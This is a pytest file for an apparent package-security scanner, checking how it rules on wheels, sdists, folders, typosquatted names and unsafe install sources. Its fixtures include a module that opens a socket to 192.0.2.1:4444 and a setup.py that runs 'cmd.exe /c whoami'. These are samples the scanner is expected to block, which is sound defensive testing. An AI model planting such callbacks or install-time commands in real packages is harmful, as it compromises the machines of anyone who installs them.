"""Inspection: from an artifact to a verdict, whatever the artifact is."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from gatekeeper import inspection
from gatekeeper.inspection import Inspector, core_metadata_of
from gatekeeper.model import Finding, Known, Notice, Place, Release, Ruling, Unknown
from gatekeeper.policy import Policy
from tests.support.judging import checks_of, judged
from tests.support.packages import Built, sdist, wheel

if TYPE_CHECKING:
    from pathlib import Path

EVIL = {"acme_thing/__init__.py": "import socket\nsocket.socket().connect(('192.0.2.1', 4444))\n"}
THING = Release("pypi", "acme-thing", "1.0")


class Memory:
    """A store that remembers in a dict and counts."""

    def __init__(self) -> None:
        self.kept: dict[tuple[str, str], tuple[Finding, ...]] = {}
        self.recalled = 0

    def recall(self, sha256: str, ruleset: str) -> tuple[Finding, ...] | None:
        found = self.kept.get((sha256, ruleset))
        self.recalled += found is not None
        return found

    def remember(self, sha256: str, ruleset: str, findings: tuple[Finding, ...]) -> None:
        self.kept[sha256, ruleset] = findings


def judge(inspector: Inspector, built: Built, folder: Path, release: Release = THING) -> inspection.Verdict:
    return inspector.judge_artifact(built.write(folder), release, filename=built.filename, sha256=built.sha256)


def test_an_honest_wheel_and_an_honest_sdist_are_allowed(tmp_path: Path) -> None:
    for built in (wheel("acme-thing"), sdist("acme-thing")):
        verdict = judged(built, tmp_path)
        assert verdict.ruling is Ruling.ALLOW
        assert verdict.artifact is not None
        assert (verdict.artifact.sha256, verdict.artifact.size) == (built.sha256, len(built.content))


def test_what_was_found_in_bytes_is_recalled_and_gives_the_same_verdict(tmp_path: Path) -> None:
    memory = Memory()
    inspector = Inspector(Policy(), memory)
    first = judge(inspector, wheel("acme-thing", files=EVIL), tmp_path)
    second = judge(inspector, wheel("acme-thing", files=EVIL), tmp_path)
    assert first.ruling is Ruling.BLOCK
    assert (first.recalled, second.recalled, memory.recalled) == (False, True, 1)
    assert replace(second, recalled=False) == first


def test_findings_about_a_name_are_never_remembered_with_the_bytes(tmp_path: Path) -> None:
    memory = Memory()
    inspector = Inspector(Policy(), memory)
    built = wheel("reqeusts")
    assert "typosquat" in checks_of(judge(inspector, built, tmp_path, Release("pypi", "reqeusts", "1.0")))
    assert all(found == () for found in memory.kept.values())
    assert judge(inspector, built, tmp_path, THING).findings == ()


def test_an_unreadable_file_is_an_error_and_is_not_remembered(tmp_path: Path) -> None:
    memory = Memory()
    built = wheel("acme-thing")
    broken = replace(built, content=built.content[: len(built.content) // 2])
    verdict = judge(Inspector(Policy(), memory), broken, tmp_path)
    assert verdict.ruling is Ruling.ERROR
    assert verdict.error
    assert memory.kept == {}


def test_a_missing_file_is_an_error(tmp_path: Path) -> None:
    verdict = Inspector(Policy()).judge_artifact(tmp_path / "a.whl", THING, filename="a.whl", sha256="0" * 64)
    assert verdict.ruling is Ruling.ERROR


def test_a_bug_in_a_check_is_loud(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> tuple[Finding, ...]:
        raise KeyError("a bug")

    monkeypatch.setattr(inspection, "run_checks", broken)
    with pytest.raises(KeyError):
        judged(wheel("acme-thing"), tmp_path)


def test_a_close_name_is_refused_by_its_name_alone_and_the_real_one_is_not() -> None:
    inspector = Inspector(Policy())
    assert inspector.judge_name(Release("pypi", "reqeusts"), requested=True).ruling is Ruling.BLOCK
    assert inspector.judge_name(Release("pypi", "requests")).ruling is Ruling.ALLOW
    assert inspector.judge_name(Release("npm", "lodahs")).ruling is Ruling.ALLOW


def test_a_source_that_no_gate_can_see_is_refused_and_names_its_line() -> None:
    notice = Notice("vcs-source", "git+https://code.example/a.git", Place("requirements.txt", 7))
    verdict = Inspector(Policy()).judge_notices(THING, (notice,), path="requirements.txt")
    assert verdict.ruling is Ruling.BLOCK
    assert [(one.check, one.file, one.line) for one in verdict.findings] == [("ungated-source", "requirements.txt", 7)]
    assert verdict.path == "requirements.txt"


def test_two_indexes_are_a_note_and_plain_http_a_question() -> None:
    inspector = Inspector(Policy())
    assert inspector.judge_notices(THING, (Notice("two-indexes", "a and b"),)).ruling is Ruling.ALLOW
    assert inspector.judge_notices(THING, (Notice("plain-http", "http://index.example"),)).ruling is Ruling.ASK


def test_a_folder_is_judged_by_its_code_and_not_by_its_name(tmp_path: Path) -> None:
    folder = tmp_path / "reqeusts"
    folder.mkdir()
    (folder / "setup.py").write_text("from setuptools import setup\nsetup(name='reqeusts')\n", "utf-8")
    assert Inspector(Policy()).judge_folder(folder).ruling is Ruling.ALLOW
    (folder / "setup.py").write_text("import os\nos.system('cmd.exe /c whoami')\n", "utf-8")
    verdict = Inspector(Policy()).judge_folder(folder)
    assert (verdict.ruling, verdict.path) == (Ruling.BLOCK, str(folder))
    assert Inspector(Policy()).judge_folder(tmp_path / "nowhere").ruling is Ruling.ERROR


def test_the_ruleset_is_a_digest_and_stays_the_same() -> None:
    assert re.fullmatch("sha256:[0-9a-f]{64}", Inspector(Policy()).ruleset)
    assert Inspector(Policy()).ruleset == Inspector(Policy(rulings={"typosquat": "ask"})).ruleset


def test_core_metadata_is_known_of_a_wheel_and_unknown_of_a_broken_file(tmp_path: Path) -> None:
    built = wheel("acme-thing")
    assert core_metadata_of(built.write(tmp_path), built.filename) == Known(built.metadata)
    (tmp_path / "b.whl").write_bytes(b"nothing")
    assert isinstance(core_metadata_of(tmp_path / "b.whl", "b.whl"), Unknown)
